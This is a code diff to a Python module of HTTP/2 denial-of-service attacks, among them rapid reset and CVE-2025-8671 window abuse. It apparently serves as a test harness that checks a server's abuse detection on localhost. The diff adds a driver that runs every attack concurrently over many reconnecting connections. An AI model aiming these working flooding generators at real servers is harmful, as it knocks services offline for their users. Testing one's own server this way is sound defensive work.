@@ -1,16 +1,22 @@
 # SPDX-License-Identifier: Apache-2.0
 """Attacks on an HTTP/2 server, each a generator of bytes to send until the connection is gone, with
-the kind that weir_http_abuse_total has for it."""
+the kind that weir_http_abuse_total has for it.
+
+    attacks.py PORT CLIENTS    all of them at once, on so many connections, each opened again as
+                               soon as it is closed, until standard input ends; prints how many
+"""
 import itertools
 import json
-
+import select
+import selectors
 import socket
 import struct
+import sys
 
 from h2raw import (
-    AUTHORITY, CONTINUATION, END_HEADERS, END_STREAM, GET, INITIAL_WINDOW_SIZE, NONE, SCHEME,
-    WINDOW_MOST, Wire, block, data, frame, headers, integer, literal, opened, ping, priority,
-    reset, settings, string, window_update)
+    AUTHORITY, CONTINUATION, END_HEADERS, END_STREAM, GET, INITIAL_WINDOW_SIZE, NONE, PREFACE,
+    SCHEME, WINDOW_MOST, Wire, block, data, frame, headers, integer, literal, opened, ping,
+    priority, reset, settings, string, window_update)
 
 WORK = json.dumps({"prompt": "Once upon a time", "max_tokens": 64, "ignore_eos": True}).encode()
 ASK = block((":method", "POST"), SCHEME, (":path", "/v1/completions"), AUTHORITY,
@@ -39,7 +45,7 @@ def rapid_reset():
 
 
 def made_to_reset():
-    """CVE-2025-8671: the server is made to call the work off itself, by a window past its end ..."""
+    """CVE-2025-8671: the server is made to call the work off, by a window past its end ..."""
     return pieces(asked(stream) + window_update(WINDOW_MOST, stream) for stream in odd())
 
 
@@ -111,6 +117,66 @@ ATTACKS = [
     ("empty_frame", empty_data), ("unknown_frame", unknown_frames), ("tiny_window", tiny_windows),
 ]
 
+PIECES_KEPT = 200  # of each attack, made once: the attackers shall be busy attacking
+ABORT = struct.pack("ii", 1, 0)
+
+
+class Attacker:
+    """One connection after the other, each for the next attack."""
+
+    def __init__(self, port, number, store):
+        self._port, self._store = port, store
+        self._source = f"127.0.{1 + number // 200}.{1 + number % 200}"
+        self._turn = number
+        self.opened = 0
+        self.socket = None
+
+    def open(self):
+        self.socket = socket.socket()
+        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, ABORT)
+        self.socket.bind((self._source, 0))
+        self.socket.connect(("127.0.0.1", self._port))
+        self.socket.setblocking(False)
+        self._pieces = iter(self._store[self._turn % len(self._store)])
+        self._piece = b""
+        self._turn += 1
+        self.opened += 1
+
+    def step(self, events):
+        """False once the connection is over."""
+        try:
+            if events & selectors.EVENT_READ and not self.socket.recv(65536):
+                return False
+            if events & selectors.EVENT_WRITE:
+                self._piece = self._piece or next(self._pieces)
+                self._piece = self._piece[self.socket.send(self._piece):]
+        except BlockingIOError:
+            return True
+        except (OSError, StopIteration):
+            return False
+        return True
+
+
+def keep_attacking(port, clients):
+    opening = PREFACE + settings()
+    store = [[opening, *itertools.islice(attack(), PIECES_KEPT)] for _, attack in ATTACKS]
+    attackers = [Attacker(port, number, store) for number in range(clients)]
+    with selectors.DefaultSelector() as selector:
+        selector.register(sys.stdin, selectors.EVENT_READ)
+        both = selectors.EVENT_READ | selectors.EVENT_WRITE
+        for attacker in attackers:
+            attacker.open()
+            selector.register(attacker.socket, both, attacker)
+        while not select.select([sys.stdin], [], [], 0)[0]:
+            for key, events in selector.select(1):
+                if key.data is None or key.data.step(events):
+                    continue
+                selector.unregister(key.data.socket)
+                key.data.socket.close()
+                key.data.open()
+                selector.register(key.data.socket, both, key.data)
+    print(sum(attacker.opened for attacker in attackers))
+
 
 def fall_on(port, attack, frames_most):
     """Attacks on one connection until it is closed; returns the wire. An AssertionError when it
@@ -123,3 +189,7 @@ def fall_on(port, attack, frames_most):
         if wire.closed:
             return wire
     raise AssertionError(f"it still stands; {wire.frames[-5:]}")
+
+
+if __name__ == "__main__":
+    keep_attacking(int(sys.argv[1]), int(sys.argv[2]))
